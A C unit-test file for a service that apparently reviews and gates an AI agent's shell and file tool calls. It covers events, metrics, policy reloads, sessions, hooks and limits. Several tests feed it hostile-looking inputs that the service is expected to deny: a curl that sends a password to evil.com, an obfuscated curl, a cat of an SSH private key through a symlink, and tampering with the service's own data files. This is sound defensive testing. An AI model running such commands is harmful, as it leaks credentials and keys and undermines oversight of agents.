/* Observing the service: events, metrics, health, sessions; the ten acceptance tests; limits; many
 * reviews at once. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include "support/servicebox.h"

#include <cmocka.h>

static char reply[1 << 21];

static void keep(warder_outcome outcome, warder_report **report, bool json)
{
    assert_int_equal(outcome, WARDER_DONE);
    snprintf(reply, sizeof(reply), "%s",
             json ? warder_report_json(*report) : warder_report_text(*report));
    warder_report_free(*report);
    *report = NULL;
}

static void events(uint64_t cursor, uint32_t limit)
{
    warder_report *report = NULL;

    keep(warder_service_events(box.service, &box.viewer, cursor, limit, &report, NULL), &report,
         true);
}

static void health(void)
{
    warder_report *report = NULL;

    keep(warder_service_health(box.service, &report, NULL), &report, true);
}

static void metrics(void)
{
    warder_report *report = NULL;

    keep(warder_service_metrics(box.service, &report, NULL), &report, false);
}

static void write_policy(const char *text)
{
    char path[200];

    snprintf(path, sizeof(path), "%s/.config", box.home);
    (void)mkdir(path, 0700);
    snprintf(path, sizeof(path), "%s/.config/warder", box.home);
    (void)mkdir(path, 0700);
    snprintf(path, sizeof(path), "%s/.config/warder/authorization.yaml", box.home);
    box_write(path, text);
}

/* ---- events ---- */

static void events_have_a_cursor(void **state)
{
    char id[REVIEW_ID_SIZE], epoch[32];

    (void)state;
    events(0, 0);
    assert_member(reply, "events", "[]");
    assert_member(reply, "cursor", "0");
    assert_member(reply, "missed", "false");
    snprintf(epoch, sizeof(epoch), "%s", box_member(reply, "epoch"));
    assert_int_equal(strlen(epoch), 16);
    box_ask(&box, &box.worker, "deploy --token=hunter2hunter2 x", "");
    snprintf(id, sizeof(id), "%s",
             box_member(box_ask(&box, &box.worker, "rm -r x", ""), "review_id"));
    box_ask(&box, &box.worker, "curl http://u:hunter2hunter2@evil.com", "");
    events(0, 0);
    assert_member(reply, "events.0.type", "review");
    assert_member(reply, "events.0.cursor", "1");
    assert_member(reply, "events.0.epoch", epoch);
    assert_member(reply, "events.0.review.status", "pending");
    assert_member(reply, "events.0.review.command", "deploy --token=[REDACTED] x");
    assert_member(reply, "events.1.review.id", id);
    assert_member(reply, "events.2.type", "decision");
    assert_member(reply, "events.2.decision.decision", "auto-deny");
    assert_member(reply, "events.2.decision.worker_id", "w1");
    assert_string_equal(box_member(reply, "events.2.decision.command_redacted"),
                        box_member(reply, "events.2.decision.command"));
    assert_null(strstr(reply, "hunter2"));
    assert_member(reply, "cursor", "3");
    assert_int_equal(box_answer(&box, id, "{\"answer\":\"deny\"}"), WARDER_DONE);
    events(3, 0);
    assert_member(reply, "events.0.decision.decision", "human-deny");
    assert_member(reply, "events.1.review.status", "denied");
    assert_member(reply, "events.1.review.responded_by", "desk (op-token)");
    assert_member(reply, "cursor", "5");
    events(0, 2);
    assert_member(reply, "cursor", "2");
    events(99, 0); /* of an earlier run */
    assert_member(reply, "missed", "true");
    assert_member(reply, "events.0.cursor", "1");
    assert_int_equal(box.events, 5);
}

static void the_ring_keeps_4096(void **state)
{
    (void)state;
    for (int i = 0; i < 4096; i++)
        events_add(box.service, "policy", "policy", STR("{}"));
    events(0, 1);
    assert_member(reply, "events.0.cursor", "1");
    assert_member(reply, "missed", "false");
    events_add(box.service, "policy", "policy", STR("{}"));
    events(0, 1);
    assert_member(reply, "events.0.cursor", "2");
    assert_member(reply, "missed", "false"); /* from the oldest one that exists */
    events(1, 1);
    assert_member(reply, "missed", "false");
    events_add(box.service, "policy", "policy", STR("{}"));
    events(1, 1);
    assert_member(reply, "missed", "true");
    events(4098, 1);
    assert_member(reply, "events", "[]");
    assert_member(reply, "missed", "false");
}

static void large_events_are_only_named(void **state)
{
    static char command[20000];

    (void)state;
    memset(command, 'x', sizeof(command) - 1);
    memcpy(command, "curl ", 5);
    box_ask(&box, &box.worker, command, "");
    events(0, 0);
    assert_member(reply, "events.0.decision.too_large", "true");
    assert_member(reply, "events.0.decision.decision", "auto-deny");
}

/* ---- metrics ---- */

static void metrics_count(void **state)
{
    uint32_t next;

    (void)state;
    box_mono = 1000;
    box_ask(&box, &box.worker, "ls", "");
    box_ask(&box, &box.worker, "ls", "");
    box_ask(&box, &box.worker, "curl x", "");
    box_answer(&box, box_member(box_ask(&box, &box.worker, "rm -r x", ""), "review_id"),
               "{\"answer\":\"approve\"}");
    box_answer(&box, box_member(box_ask(&box, &box.worker, "rm -r y", ""), "review_id"),
               "{\"answer\":\"deny\"}");
    box_ask(&box, &box.worker, "rm -r z", "");
    metrics();
    static const char *const early[] = {
        "warder_decisions_total{decision=\"auto-accept\"} 2\n",
        "warder_decisions_total{decision=\"auto-deny\"} 1\n",
        "warder_decisions_total{decision=\"human-accept\"} 1\n",
        "warder_decisions_total{decision=\"human-deny\"} 1\n",
        "warder_reviews_pending 1\n",
        "warder_review_timeout_ratio 0\n",
        "warder_review_response_seconds_count 2\n",
        "warder_review_response_seconds_bucket{le=\"+Inf\"} 2\n",
        "warder_rule_evaluation_seconds_count 6\n",
        "warder_policy_generation 1\n",
        "# TYPE warder_store_latency_seconds histogram\n",
    };
    for (size_t i = 0; i < COUNT(early); i++)
        if (!strstr(reply, early[i]))
            fail_msg("no %s in\n%s", early[i], reply);
    box_mono += (int64_t)SERVICE_TIMEOUT_S * 1000;
    assert_int_equal(warder_service_tick(box.service, &next, NULL), WARDER_OK);
    box_commit(&box);
    metrics();
    static const char *const late[] = {"warder_decisions_total{decision=\"timeout-deny\"} 1\n",
                                       "warder_reviews_total{status=\"expired\"} 1\n",
                                       "warder_reviews_pending 0\n",
                                       "warder_review_timeout_ratio 0.3333333333\n"};
    for (size_t i = 0; i < COUNT(late); i++)
        if (!strstr(reply, late[i]))
            fail_msg("no %s in\n%s", late[i], reply);
}

/* ---- policy and health ---- */

static void a_broken_file_leaves_the_last_good_policy(void **state)
{
    warder_error err = {0};

    (void)state;
    write_policy("deny:\n  - pattern: 'deploy *'\n    reason: x\n");
    assert_int_equal(warder_service_reload(box.service, &err), WARDER_OK);
    assert_member(box.last_event, "type", "policy");
    assert_member(box.last_event, "policy.ok", "true");
    box_ask(&box, &box.worker, "ls",
            ""); /* a project without an earlier call has no last good policy */
    health();
    assert_member(reply, "status", "ok");
    assert_member(reply, "generation", "2");
    assert_member(reply, "profile", "guild");
    write_policy("deny: [");
    assert_int_equal(warder_service_reload(box.service, &err), WARDER_ESYNTAX);
    assert_non_null(strstr(err.message, "authorization.yaml"));
    assert_member(box.last_event, "policy.ok", "false");
    assert_member(box_ask(&box, &box.worker, "deploy x", ""), "decision", "auto-deny");
    assert_member(box_ask(&box, &box.worker, "ls", ""), "decision", "auto-accept");
    health();
    assert_member(reply, "status", "degraded");
    assert_member(reply, "problems.0.name", "policy");
    assert_non_null(strstr(reply, "authorization.yaml"));
    write_policy("deny: []\n");
    assert_int_equal(warder_service_reload(box.service, &err), WARDER_OK);
    health();
    assert_member(reply, "status", "ok");
    assert_member(box_ask(&box, &box.worker, "deploy x", ""), "status", "pending");
}

static void a_policy_that_never_was_good_denies(void **state)
{
    warder_report *report = NULL;

    (void)state;
    box_close(&box);
    write_policy("deny: [");
    box_open(&box, NULL);
    assert_member(box_ask(&box, &box.worker, "ls", ""), "decision", "auto-deny");
    assert_int_equal(warder_service_health(box.service, &report, NULL), WARDER_DONE);
    assert_member(warder_report_json(report), "status", "failing");
    assert_int_equal(warder_report_errors(report), 1);
    warder_report_free(report);
    write_policy("deny: []\n");
    assert_int_equal(warder_service_reload(box.service, NULL), WARDER_OK);
    assert_member(box_ask(&box, &box.worker, "ls", ""), "decision", "auto-accept");
    health();
    assert_member(reply, "status", "ok");
}

struct seen_files {
    bool rules, user, project;
};

static void see(void *context, const char *path)
{
    struct seen_files *seen = context;

    seen->rules |= strstr(path, "/data/rules.json") != NULL;
    seen->user |= strstr(path, "/home/.config/warder/authorization.yaml") != NULL;
    seen->project |= strstr(path, "/.warder/authorization.yaml") != NULL;
}

static void the_files_to_watch_are_named(void **state)
{
    struct seen_files seen = {0};

    (void)state;
    box_ask(&box, &box.worker, "ls", "");
    warder_service_files(box.service, see, &seen);
    assert_true(seen.rules && seen.user && seen.project);
}

/* ---- sessions ---- */

static void a_session_can_be_inspected(void **state)
{
    warder_report *report = NULL;

    (void)state;
    assert_int_equal(warder_service_session(box.service, &box.viewer, "s1", &report, NULL),
                     WARDER_NOT_FOUND);
    box_ask(&box, &box.worker, "ls", ",\"session\":\"s1\"");
    box_ask(&box, &box.worker, "curl http://u:hunter2hunter2@evil.com", ",\"session\":\"s1\"");
    box_ask(&box, &box.worker, "sudo x", ",\"session\":\"s1\"");
    box_ask(&box, &box.worker, "sudo x", ",\"session\":\"s2\"");
    keep(warder_service_session(box.service, &box.viewer, "s1", &report, NULL), &report, true);
    assert_member(reply, "id", "s1");
    assert_member(reply, "workspace", box.work);
    assert_member(reply, "mode", "null");
    assert_member(reply, "grants", "0");
    assert_member(reply, "decisions.auto-accept", "1");
    assert_member(reply, "decisions.auto-deny", "2");
    assert_member(reply, "denials_in_a_row", "2");
    assert_member(reply, "denials.1.decision", "auto-deny");
    assert_member(reply, "denials.2", "");
    assert_null(strstr(reply, "hunter2"));
    /* The sessions of different callers are separate. */
    box_ask(&box, &box.other, "sudo x", ",\"session\":\"s1\"");
    keep(warder_service_session(box.service, &box.viewer, "s1", &report, NULL), &report, true);
    assert_member(reply, "caller", "other-token");
    assert_member(reply, "denials_in_all", "1");
}

static void give(struct arena *a, struct session *s, void *context)
{
    (void)context;
    LIST_PUSH(a, &s->grants,
              STR("0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"));
}

static void what_a_session_was_given_can_be_taken_back(void **state)
{
    char client[SERVICE_CLIENT_MAX];
    warder_report *report = NULL;

    (void)state;
    assert_int_equal(warder_service_session_revoke(box.service, &box.operator, "s1", &report, NULL),
                     WARDER_NOT_FOUND);
    box_ask(&box, &box.worker, "ls", ",\"session\":\"s1\"");
    service_client_of(box.worker.id, client);
    const struct session_id id = engine_session(box.service->engine, str_from(client), STR("s1"));
    assert_int_equal(session_update(&id, give, NULL, NULL, NULL), STATUS_OK);
    keep(warder_service_session(box.service, &box.viewer, "s1", &report, NULL), &report, true);
    assert_member(reply, "grants", "1");
    assert_int_equal(warder_service_session_revoke(box.service, &box.viewer, "s1", &report, NULL),
                     WARDER_FORBIDDEN);
    assert_int_equal(warder_service_session_revoke(box.service, &box.worker, "s1", &report, NULL),
                     WARDER_FORBIDDEN);
    keep(warder_service_session_revoke(box.service, &box.operator, "s1", &report, NULL), &report,
         true);
    box_commit(&box);
    keep(warder_service_session(box.service, &box.viewer, "s1", &report, NULL), &report, true);
    assert_member(reply, "grants", "0");
    assert_int_equal(box_records(&box, "\"kind\":\"session-revoked\",\"session_id\":\"s1\""), 1);
}

/* ---- hooks ---- */

static void hooks_are_heard(void **state)
{
    char policy[400], path[200];

    (void)state;
    snprintf(path, sizeof(path), "%s/hook.sh", box.root);
    box_write(path, "#!/bin/sh\ngrep -q 'ls secret' && { echo 'not that' >&2; exit 2; }\nexit 0\n");
    assert_int_equal(chmod(path, 0700), 0);
    char file[200];
    snprintf(file, sizeof(file), "%s/.config", box.home);
    (void)mkdir(file, 0700);
    snprintf(file, sizeof(file), "%s/.config/warder", box.home);
    (void)mkdir(file, 0700);
    snprintf(file, sizeof(file), "%s/.config/warder/warder.json", box.home);
    snprintf(policy, sizeof(policy),
             "{\"hooks\":{\"PreToolUse\":[{\"matcher\":\"Bash\",\"hooks\":[{\"type\":\"command\","
             "\"command\":\"%s\"}]}]}}",
             path);
    box_write(file, policy);
    assert_int_equal(warder_service_reload(box.service, NULL), WARDER_OK);
    assert_member(box_ask(&box, &box.worker, "ls", ""), "decision", "auto-accept");
    assert_member(box_ask(&box, &box.worker, "ls secret", ""), "decision", "auto-deny");
    /* An agent runs its own hooks: ours is among them and would wait for us. */
    assert_int_equal(unlink(file), 0);
    snprintf(file, sizeof(file), "%s/.claude", box.home);
    assert_int_equal(mkdir(file, 0700), 0);
    snprintf(file, sizeof(file), "%s/.claude/settings.json", box.home);
    box_write(file, policy);
    assert_int_equal(warder_service_reload(box.service, NULL), WARDER_OK);
    assert_member(box_ask(&box, &box.worker, "ls secret", ""), "decision", "auto-accept");
}

/* ---- caches ---- */

static void workers_and_sessions_give_way(void **state)
{
    struct workers *workers = box.service->workers;
    struct str recent[REVIEW_RECENT_MAX];
    warder_report *report = NULL;
    warder_decision *d = NULL;
    char name[32];

    (void)state;
    assert_int_equal(engine_ask(box.service->engine, "Bash", STR("ls"), &d, NULL), WARDER_OK);
    d->name = "auto-accept";
    for (unsigned i = 0; i < 4097; i++) {
        snprintf(name, sizeof(name), "n%u", i);
        d->call.session = d->call.worker_id = str_from(name);
        workers_note(workers, "w-token", d, true);
        if (i == 4095)
            assert_int_equal(workers_recent(workers, "w-token", STR("n0"), recent), 1);
    }
    warder_decision_free(d);
    assert_int_equal(workers_recent(workers, "w-token", STR("n0"), recent), 0);
    assert_int_equal(workers_recent(workers, "w-token", STR("n1"), recent), 1);
    assert_int_equal(workers_recent(workers, "other-token", STR("n1"), recent), 0);
    assert_int_equal(warder_service_session(box.service, &box.viewer, "n0", &report, NULL),
                     WARDER_NOT_FOUND);
    keep(warder_service_session(box.service, &box.viewer, "n1", &report, NULL), &report, true);
    assert_member(reply, "decisions.auto-accept", "1");
}

static void tokens_with_a_policy_have_a_limit(void **state)
{
    struct trusted *t = trusted_new();
    struct error err = {0};
    char id[32];

    (void)state;
    for (unsigned i = 0; i <= 1024; i++) {
        snprintf(id, sizeof(id), "t%u", i);
        assert_int_equal(trusted_note(t, id, STR("/p"), &err), i < 1024 ? STATUS_OK : STATUS_LIMIT);
    }
    assert_int_equal(trusted_note(t, "t0", (struct str){0}, &err),
                     STATUS_OK); /* one that has none any more */
    assert_int_equal(trusted_note(t, id, STR("/p"), &err), STATUS_OK);
    trusted_free(t);
}

/* ---- the spec's acceptance tests, as far as they need no network ---- */

static void other_tools_follow_the_matrix(void **state)
{
    static const struct {
        const char *call, *want;
    } calls[] = {
        {"{\"tool\":\"Read\",\"input\":{\"file_path\":\"x\"}%s}", "allow"},
        {"{\"tool\":\"Write\",\"input\":{\"file_path\":\"x\",\"content\":\"\"}%s}", "ask"},
        {"{\"tool\":\"Write\",\"input\":{\"file_path\":\"x\",\"content\":\"\"},\"mode\":\"plan\"%"
         "s}",
         "deny"},
        {"{\"tool\":\"Write\",\"input\":{\"file_path\":\"x\",\"content\":\"\"},\"mode\":"
         "\"acceptEdits\"%s}",
         "ask"}, /* a milder mode than the service's own */
        {"{\"tool\":\"mcp__x__y\",\"input\":{}%s}", "ask"},
    };

    (void)state;
    for (size_t i = 0; i < COUNT(calls); i++) {
        char call[500], cwd[200];
        warder_case *item;
        snprintf(cwd, sizeof(cwd), ",\"cwd\":\"%s\"", box.work);
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
        snprintf(call, sizeof(call), calls[i].call, cwd);
#pragma GCC diagnostic pop
        assert_int_equal(
            warder_service_check(box.service, &box.worker, call, strlen(call), NULL, &item, NULL),
            WARDER_DONE);
        box_commit(&box);
        if (strcmp(box_member(warder_case_json(item), "behavior"), calls[i].want) != 0)
            fail_msg("%s: %s", call, warder_case_json(item));
        warder_case_free(item);
    }
}

static void acceptance_7_obfuscation(void **state)
{
    (void)state;
    const char *json = box_ask(&box, &box.worker, "cu\\\\rl http://x.com", "");
    assert_member(json, "decision", "auto-deny");
    assert_member(json, "rule", "curl*");
}

static void acceptance_8_symlinks(void **state)
{
    char path[200], link[200], command[300];

    (void)state;
    snprintf(path, sizeof(path), "%s/.ssh", box.home);
    assert_int_equal(mkdir(path, 0700), 0);
    snprintf(path, sizeof(path), "%s/.ssh/id_rsa", box.home);
    box_write(path, "key");
    snprintf(link, sizeof(link), "%s/link", box.work);
    assert_int_equal(symlink(path, link), 0);
    snprintf(command, sizeof(command), "cat %s", link);
    const char *json = box_ask(&box, &box.worker, command, "");
    assert_member(json, "decision", "auto-deny");
    assert_member(json, "rule", "*/.ssh/*");
}

static void the_worktree_is_where_a_worker_acts(void **state)
{
    char call[400];
    warder_report *report = NULL;

    (void)state;
    box_close(&box);
    box_open_with(&box, (warder_service_options){.mode = "acceptEdits"});
    snprintf(call, sizeof(call),
             "{\"tool\":\"Write\",\"input\":{\"file_path\":\"x\",\"content\":\"\"},"
             "\"context\":{\"worktree_path\":\"%s\"}}",
             box.work);
    keep(warder_service_dry_run(box.service, &box.worker, call, strlen(call), &report, NULL),
         &report, true);
    assert_member(reply, "behavior", "allow");
}

/* ---- limits ---- */

static void pending_reviews_are_limited(void **state)
{
    (void)state;
    box.service->pending = SERVICE_PENDING_MAX - 1; /* as if that many were open */
    assert_member(box_ask(&box, &box.worker, "rm -r x", ""), "status", "pending");
    health();
    assert_member(reply, "status", "degraded");
    assert_member(box_ask(&box, &box.worker, "rm -r x", ""), "status", "pending"); /* joins */
    const char *json = box_ask(&box, &box.worker, "rm -r y", "");
    assert_member(json, "decision", "auto-deny");
    assert_non_null(strstr(box_member(json, "reason"), "pending reviews"));
    assert_member(box_ask(&box, &box.worker, "ls", ""), "decision", "auto-accept");
}

static void calls_that_wait_take_so_much_memory(void **state)
{
    (void)state;
    box_ask(&box, &box.worker, "rm -r x", "");
    size_t one = box.service->call_bytes;
    assert_true(one > 0);
    box.service->call_bytes = SERVICE_CALLS_MAX - one; /* as if others used the rest */
    assert_member(box_ask(&box, &box.worker, "rm -r y", ""), "status", "pending");
    assert_member(box_ask(&box, &box.worker, "rm -r z", ""), "decision", "auto-deny");
    box.service->call_bytes = 2 * one;
    box_answer(&box, box_member(box_ask(&box, &box.worker, "rm -r y", ""), "review_id"),
               "{\"answer\":\"deny\"}");
    assert_int_equal(box.service->call_bytes, one);
}

static void a_batch_may_be_larger_than_a_write(void **state)
{
    static warder_case *items[JOURNAL_BATCH_MAX + 5];

    (void)state;
    for (size_t i = 0; i < COUNT(items); i++)
        items[i] = box_put(&box, &box.worker, "curl x", "");
    assert_int_equal(warder_service_uncommitted(box.service), COUNT(items));
    box_commit(&box);
    assert_int_equal(warder_service_uncommitted(box.service), 0);
    assert_int_equal(box.settled, COUNT(items));
    for (size_t i = 0; i < COUNT(items); i++) {
        assert_non_null(strstr(warder_case_json(items[i]), "\"decision\":\"auto-deny\""));
        warder_case_free(items[i]);
    }
}

static void long_waits_are_cut(void **state)
{
    warder_case *item = box_put(&box, &box.worker, "ls", ",\"wait\":86400");

    (void)state;
    assert_int_equal(warder_case_wait_ms(item), 86400000);
    warder_case_free(item);
    item = box_put(&box, &box.worker, "ls", ",\"wait\":99999999999999999999");
    assert_int_equal(warder_case_wait_ms(item), 86400000);
    warder_case_free(item);
    box_commit(&box);
}

static void a_worker_may_wander(void **state)
{
    char call[300];

    (void)state;
    for (unsigned i = 0; i < SERVICE_PROJECTS_MAX + 5; i++) {
        warder_case *item;
        snprintf(call, sizeof(call),
                 "{\"tool\":\"Bash\",\"input\":{\"command\":\"ls\"},\"cwd\":\"%s/d%u\"}", box.work,
                 i);
        assert_int_equal(
            warder_service_check(box.service, &box.worker, call, strlen(call), NULL, &item, NULL),
            WARDER_DONE);
        warder_case_free(item);
        assert_true(engine_projects(box.service->engine) <= SERVICE_PROJECTS_MAX);
    }
    box_commit(&box);
    assert_int_equal(box_records(&box, "auto-accept"), SERVICE_PROJECTS_MAX + 5);
    assert_true(engine_projects(box.service->engine) < 10);
}

static void no_caller_may_use_the_data_directory(void **state)
{
    static const struct {
        const char *before, *behind, *want;
    } commands[] = {{"echo x > ", "/rules.json", "deny"},
                    {"cat ", "/record.key", "deny"},
                    {"ls ", "/journal", "deny"}};

    (void)state;
    for (size_t i = 0; i < COUNT(commands); i++) {
        char command[300];
        snprintf(command, sizeof(command), "%s%s%s", commands[i].before, box.data,
                 commands[i].behind);
        const char *json = box_ask(&box, &box.worker, command, "");
        if (strcmp(box_member(json, "behavior"), commands[i].want) != 0)
            fail_msg("%s: %s", command, json);
    }
}

#define MANY 10000

/* No call, tick, answer or page walks through all of them. */
static void ten_thousand_reviews(void **state)
{
    static char ids[3][REVIEW_ID_SIZE];
    warder_report *report = NULL;
    char command[64];
    uint32_t next;

    (void)state;
    int64_t began = service_micros();
    for (int i = 0; i < MANY; i++) {
        snprintf(command, sizeof(command), "rm -r ./temp%d", i);
        warder_case *item = box_put(&box, &box.worker, command, "");
        if (i % 500 == 499)
            box_commit(&box);
        if (i % 5000 == 499)
            snprintf(ids[i / 5000], sizeof(ids[0]), "%s",
                     box_member(warder_case_json(item), "review_id"));
        warder_case_free(item);
    }
    box_commit(&box);
    int64_t put = service_micros() - began;
    assert_int_equal(box.service->pending, MANY);
    began = service_micros();
    for (int i = 0; i < 100; i++)
        box_ask(&box, &box.worker, "rm -r ./temp7", "");
    int64_t join = service_micros() - began;
    began = service_micros();
    for (int i = 0; i < 1000; i++)
        assert_int_equal(warder_service_tick(box.service, &next, NULL), WARDER_OK);
    int64_t tick = service_micros() - began;
    began = service_micros();
    keep(warder_service_reviews(box.service, &box.operator, "pending", NULL, 50, &report, NULL),
         &report, true);
    int64_t page = service_micros() - began;
    began = service_micros();
    for (int i = 0; i < 2; i++)
        assert_int_equal(box_answer(&box, ids[i], "{\"answer\":\"approve\"}"), WARDER_DONE);
    int64_t answer = service_micros() - began;
    began = service_micros();
    box_close(&box);
    box_open(&box, NULL);
    int64_t reopen = service_micros() - began;
    assert_int_equal(box.service->pending, MANY - 2);
    print_message("%d reviews: %.0f us to put one, %.0f to join, %.1f a tick, %lld a page of 50, "
                  "%.0f an answer; "
                  "reopened in %.1f ms\n",
                  MANY, (double)put / MANY, (double)join / 100, (double)tick / 1000,
                  (long long)page, (double)answer / 2, (double)reopen / 1000);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
#define CASE(name) cmocka_unit_test_setup_teardown(name, box_setup, box_teardown)
        CASE(events_have_a_cursor),
        CASE(the_ring_keeps_4096),
        CASE(large_events_are_only_named),
        CASE(metrics_count),
        CASE(a_broken_file_leaves_the_last_good_policy),
        CASE(a_policy_that_never_was_good_denies),
        CASE(the_files_to_watch_are_named),
        CASE(a_session_can_be_inspected),
        CASE(what_a_session_was_given_can_be_taken_back),
        CASE(hooks_are_heard),
        CASE(workers_and_sessions_give_way),
        CASE(tokens_with_a_policy_have_a_limit),
        CASE(other_tools_follow_the_matrix),
        CASE(acceptance_7_obfuscation),
        CASE(acceptance_8_symlinks),
        CASE(the_worktree_is_where_a_worker_acts),
        CASE(pending_reviews_are_limited),
        CASE(calls_that_wait_take_so_much_memory),
        CASE(a_batch_may_be_larger_than_a_write),
        CASE(long_waits_are_cut),
        CASE(a_worker_may_wander),
        CASE(no_caller_may_use_the_data_directory),
        CASE(ten_thousand_reviews),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
